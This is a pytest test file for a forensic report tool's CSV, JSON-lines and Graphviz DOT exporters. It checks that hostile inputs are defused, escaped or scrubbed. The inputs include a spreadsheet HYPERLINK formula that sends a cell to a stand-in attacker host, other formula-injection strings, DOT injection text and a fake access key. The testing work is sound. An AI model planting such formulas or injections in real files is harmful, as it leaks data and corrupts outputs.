"""The per-row views as files (report/views_files.py): CSV defused and scrubbed, JSON lines
sorted and deterministic, graphs whole as DOT with every id and label escaped."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import subprocess

import pytest

from tracehound.report.dot_file import graphs_dot
from tracehound.report.views_files import (csv_lines, jsonl_lines, replace_views, views_of,
                                           write_views)

SHA = "c" * 64
SECRET = "AKIAQ3EGRZ7XKPV4NM2D"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def artifacts():
    return {
        "saas_timeline": [
            {"time": "2026-01-01T00:00:00Z", "service": "exchange", "actor": FORMULA,
             "action": "Set-Mailbox", "resource": f"key {SECRET}", "client_ip": "@SUM(1)",
             "outcome": "success", "source": "m365:ual",
             "ref": {"sha256": SHA, "locator": "row 2"}}],
        "account_activity": [],
        "azure_operations": [
            {"time": "2026-01-01T00:00:01Z", "operation": "write", "actor": "-2+3",
             "target": "/subscriptions/x", "source_ip": None, "status": "Succeeded",
             "outcome": None, "records": 2,
             "refs": [{"sha256": SHA, "locator": "line 1"}, {"sha256": SHA, "locator": "line 2"}]}],
        "o365_views": [{"view": "inbox_rules", "columns": ["time", "rule_name", "sha256",
                                                           "locator"], "total": 1,
                        "rows": [{"time": "t", "rule_name": "\t=1+1", "sha256": SHA,
                                  "locator": "row 3"}]},
                       {"view": "mailbox", "columns": [], "total": 0, "rows": []}],
        "graphs": [{"kind": "mcp-call-graph", "session": "s1", "nodes": [], "edges": []}],
    }


def read_csv(view) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(csv_lines(view)), newline="")))


def test_every_view_is_named_and_counted():
    views = views_of(artifacts())
    assert [(name, v.total) for name, v in views.items()] == [
        ("azure_operations", 1), ("inbox_rules", 1), ("mailbox", 0), ("saas_timeline", 1),
        ("signins", 0)]
    assert views["signins"].columns[:3] == ["time", "actor", "source"]


def test_csv_cells_are_defused_scrubbed_and_cite_their_records():
    views = views_of(artifacts())
    [row] = read_csv(views["saas_timeline"])
    assert row["actor"] == "'" + FORMULA and row["client_ip"] == "'@SUM(1)"
    assert SECRET not in row["resource"] and row["resource"].startswith("key AKIA")
    assert (row["sha256"], row["locator"]) == (SHA, "row 2") and "ref" not in row
    [operation] = read_csv(views["azure_operations"])
    assert operation["actor"] == "'-2+3"
    assert operation["refs"] == f"{SHA}:line 1 {SHA}:line 2"
    assert read_csv(views["inbox_rules"])[0]["rule_name"] == "'\t=1+1"
    assert "".join(csv_lines(views["mailbox"])) == ""          # no rows, no columns named


def test_json_lines_are_sorted_scrubbed_and_one_row_a_line():
    views = views_of(artifacts())
    [line] = list(jsonl_lines(views["saas_timeline"]))
    row = json.loads(line)
    assert line.endswith(b"\n") and line.count(b"\n") == 1
    assert line == json.dumps(row, sort_keys=True, ensure_ascii=False,
                              separators=(",", ":")).encode() + b"\n"
    assert SECRET.encode() not in line and row["actor"] == FORMULA    # JSON is not defused


def test_the_folder_holds_every_view_and_graph_and_the_same_bytes_twice(tmp_path):
    first = write_views(artifacts(), tmp_path / "a")
    second = write_views(artifacts(), tmp_path / "b")
    assert first == second == [
        "azure_operations.csv", "azure_operations.jsonl", "graphs/mcp-call-graph.dot",
        "inbox_rules.csv", "inbox_rules.jsonl", "mailbox.csv", "mailbox.jsonl",
        "saas_timeline.csv", "saas_timeline.jsonl", "signins.csv", "signins.jsonl"]
    for name in first:
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()
    assert not [p for p in (tmp_path / "a").rglob(".*")]        # no temporary file left


def test_replacing_the_folder_leaves_nothing_of_the_earlier_analysis(tmp_path):
    folder = tmp_path / "views"
    folder.mkdir()
    (folder / "ual_users.csv").write_text("stale")
    replace_views(artifacts(), folder)
    assert not (folder / "ual_users.csv").exists() and (folder / "signins.csv").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["views"]


HOSTILE = ['a"b', 'x"];\n evil [label="pwned', "back\\slash \\N \\G \\l", "<b>html</b>",
           "line\r\nbreak", "\u202eevil", f"token {SECRET}", "}", "\\"]
QUOTED = r'"(?:[^"\\\n]|\\.)*"'


def hostile_graph(session="s1"):
    nodes = [{"id": text, "label": text, "kind": text, "scope": "out-of-scope"}
             for text in HOSTILE]
    edges = [{"from": a, "to": b, "kind": b} for a, b in zip(HOSTILE, HOSTILE[1:])]
    return {"kind": 'mcp"graph', "session": session, "nodes": nodes, "edges": edges}


def test_dot_quotes_and_escapes_every_id_and_label():
    text = graphs_dot('mcp"graph', [hostile_graph()])
    node = re.compile(rf'^  {QUOTED} \[label={QUOTED}(, color="red", fontcolor="red")?\];$')
    edge = re.compile(rf"^  {QUOTED} -> {QUOTED} \[label={QUOTED}\];$")
    lines = text.splitlines()
    assert lines[0] == 'digraph "mcp\\"graph" {' and lines[-1] == "}"
    body = [line for line in lines[1:-1] if not line.startswith(("  rankdir", "  node [",
                                                                  "  label="))]
    assert len(body) == len(HOSTILE) * 2 - 1
    assert all(node.match(line) or edge.match(line) for line in body), body
    assert SECRET not in text and "\u202e" not in text and "\r" not in text
    assert '\\\\N' in text                  # the input's \N is a backslash and an N, not dot's


@pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz dot is not installed")
def test_graphviz_draws_every_hostile_text_as_plain_text():
    text = graphs_dot("g", [hostile_graph("one"), hostile_graph("two")])
    done = subprocess.run(["dot", "-Tjson"], input=text, capture_output=True, text=True,
                          timeout=30, check=True)
    names = [o["name"] for o in json.loads(done.stdout)["objects"]]
    assert len(names) == 2 + 2 * len(HOSTILE) and "1:" + HOSTILE[0] in names
    svg = subprocess.run(["dot", "-Tsvg"], input=text, capture_output=True, text=True,
                         timeout=30, check=True).stdout
    drawn = {html.unescape(t).replace("\xa0", " ")
             for t in re.findall(r"<text[^>]*>([^<]*)</text>", svg)}
    assert "back\\slash \\N \\G \\l" in drawn          # no escape of the input ran
    assert 'x"];  evil [label="pwned' in drawn and "<b>html</b>" in drawn
    assert "<U+202E>evil" in drawn and not any(SECRET in t for t in drawn)
